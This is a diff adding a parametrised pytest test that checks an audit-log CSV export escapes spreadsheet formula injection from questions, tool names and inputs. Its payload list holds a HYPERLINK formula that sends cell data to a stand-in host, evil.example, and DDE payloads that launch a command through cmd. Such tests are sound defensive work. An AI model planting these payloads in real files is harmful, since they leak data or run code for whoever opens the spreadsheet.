@@ -98,3 +98,34 @@ async def test_csv_one_row_per_step(recorded):
 def test_audit_rows_turn_without_steps_gets_one_row():
     rows = audit_rows([{"turn_id": "x", "steps": []}])
     assert len(rows) == 1 and rows[0]["step"] == "" and rows[0]["input"] == ""
+
+
+INJECTIONS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("payload", INJECTIONS)
+async def test_csv_neutralises_formulas_from_questions_and_steps(settings, payload):
+    """A question (and a tool name / SQL) starting like a formula is written as text, not as a formula."""
+    store = await open_store(settings)
+    bad = {**turn("f", user="U1", channel="C1", session="s1", age_h=0.1, steps=[]), "question": payload}
+    bad["steps"] = [{**STEP, "tool": payload, "input": payload}]
+    await store.record_turn(bad)
+    await store.close()
+    out = io.StringIO()
+    await print_audit(settings, session=None, user=None, channel=None, since_hours=None, fmt="csv",
+                      limit=10, out=out)  # fmt: skip
+    row = next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    assert row["question"] == "'" + payload and row["tool"] == "'" + payload
+    cells = [c for r in csv.reader(io.StringIO(out.getvalue(), newline="")) for c in r]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    jsonl = io.StringIO()  # JSON lines are data, not a spreadsheet: unchanged
+    await print_audit(settings, session=None, user=None, channel=None, since_hours=None, fmt="jsonl",
+                      limit=10, out=jsonl)  # fmt: skip
+    assert json.loads(jsonl.getvalue().splitlines()[0])["question"] == payload
